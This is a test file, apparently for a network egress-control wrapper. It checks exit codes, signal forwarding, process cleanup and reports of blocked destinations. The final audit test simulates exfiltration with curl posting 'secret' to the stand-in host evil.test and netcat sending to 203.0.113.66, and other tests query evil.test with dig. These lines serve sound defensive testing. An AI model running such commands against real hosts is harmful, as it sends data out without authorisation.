/** Exit statuses, signals, the summary. */

import assert from "node:assert/strict";
import { commandLine } from "../support/leftovers.ts";
import { suite } from "../support/suite.ts";

const test = suite();
const policy = "site.test";

test("status: COMMAND's own status is egress's", async (scene) => {
  for (const status of [0, 1, 3, 42, 125]) {
    const run = await scene.run({ policy, command: ["sh", "-c", `exit ${status}`] });
    assert.equal(run.status, status, run.stderr);
  }
});

test("status: a command killed by a signal is 128 and the signal's number", async (scene) => {
  const run = await scene.run({ policy, command: ["sh", "-c", "kill -TERM $$"] });
  assert.equal(run.status, 128 + 15, run.stderr);
});

test("status: a command that does not exist is 127", async (scene) => {
  const run = await scene.run({ policy, command: ["no-such-command-here"] });
  assert.equal(run.status, 127);
  assert.match(run.stderr, /no-such-command-here/);
});

test("status: a command that is not executable is 126", async (scene) => {
  const file = `${scene.folder}/data`;
  await Deno.writeTextFile(file, "no program\n", { mode: 0o644 });
  const run = await scene.run({ policy, command: [file] });
  assert.equal(run.status, 126);
  assert.ok(run.stderr.includes(file), run.stderr);
});

test("status: --fail-on-block is 3 when something was blocked and COMMAND succeeded", async (scene) => {
  const args = ["--fail-on-block"];
  const blocked = "dig +tries=1 evil.test >/dev/null";
  const succeeded = await scene.run({ policy, args, command: ["sh", "-c", `${blocked}; true`] });
  assert.equal(succeeded.status, 3, succeeded.stderr);
  const failed = await scene.run({ policy, args, command: ["sh", "-c", `${blocked}; exit 9`] });
  assert.equal(failed.status, 9, failed.stderr);
  const nothing = await scene.run({ policy, args, command: ["true"] });
  assert.equal(nothing.status, 0, nothing.stderr);
});

for (const signal of ["SIGTERM", "SIGINT", "SIGHUP"] as const) {
  test(`status: ${signal} to egress goes to COMMAND, which decides`, async (scene) => {
    const fifo = `${scene.folder}/fifo`;
    const script = `trap 'echo caught; exit 7' ${signal.slice(3)}; ` +
      `mkfifo ${fifo}; echo ready; read -r _ <>${fifo}`;
    const running = await scene.start({ policy, command: ["bash", "-c", script] });
    await running.said(/ready/);
    running.kill(signal);
    const run = await running.finished;
    assert.equal(run.stdout, "ready\ncaught\n", run.stderr);
    assert.equal(run.status, 7);
  });
}

test("status: COMMAND's streams are its own", async (scene) => {
  const run = await scene.run({
    policy,
    command: ["sh", "-c", "cat; echo error >&2"],
    stdin: "from stdin\n",
  });
  assert.equal(run.stdout, "from stdin\n", run.stderr);
  assert.match(run.stderr, /^error$/m);
});

test("status: what COMMAND started and left running is ended with it", async (scene) => {
  const script = "setsid sleep 1000 >/dev/null 2>&1 & echo $!";
  const run = await scene.run({ policy, command: ["sh", "-c", script] });
  assert.equal(run.status, 0, run.stderr);
  assert.equal(commandLine(Number(run.stdout)), "");
});

test("summary: names destinations, counts, processes, and the rule that would allow each", async (scene) => {
  const script = "curl -sS https://site.test/1 https://site.test/2 >/dev/null; " +
    "dig +tries=1 evil.test >/dev/null; dig +tries=1 evil.test >/dev/null";
  const run = await scene.run({ policy, command: ["sh", "-c", script] });
  assert.match(run.stderr, /2 x evil\.test \(dns\) by \/usr\/bin\/dig/);
  assert.match(run.stderr, /to allow: dns:evil\.test exe=\/usr\/bin\/dig/);
  assert.match(run.stderr, /2 x https:\/\/site\.test by \/usr\/bin\/curl/);
});

test("summary: --json-status is one JSON line", async (scene) => {
  const run = await scene.run({
    policy,
    args: ["--json-status"],
    command: ["dig", "+tries=1", "evil.test"],
  });
  const last = run.stderr.trimEnd().split("\n").at(-1) ?? "";
  const summary = JSON.parse(last);
  assert.equal(summary.exit, 0);
  assert.equal(summary.blockedCount, 1);
  assert.equal(summary.blocked[0].destination, "evil.test (dns)");
  assert.equal(summary.blocked[0].exe, "/usr/bin/dig");
});

test("audit: everything gets through, and the log says what would not", async (scene) => {
  const script = "curl -sS -d secret --resolve evil.test:443:203.0.113.66 https://evil.test/a; " +
    "dig +short x.evil.test; echo ping | nc -u -w 1 203.0.113.66 9000; " +
    "echo raw | nc -N 203.0.113.66 9000";
  const run = await scene.run({ args: ["--audit"], policy, command: ["sh", "-c", script] });
  assert.equal(run.stdout, "POST /a 6\n203.0.113.66\nping\ntaken\n", run.stderr);
  const denied = run.log.filter((event) => event.policy === "deny").map((event) => event.type);
  for (const type of ["https", "dns", "udp", "tcp"]) {
    assert.ok(denied.some((t) => t === type), `${type} is not among ${denied}`);
  }
  assert.match(run.stderr, /would be blocked/);
});
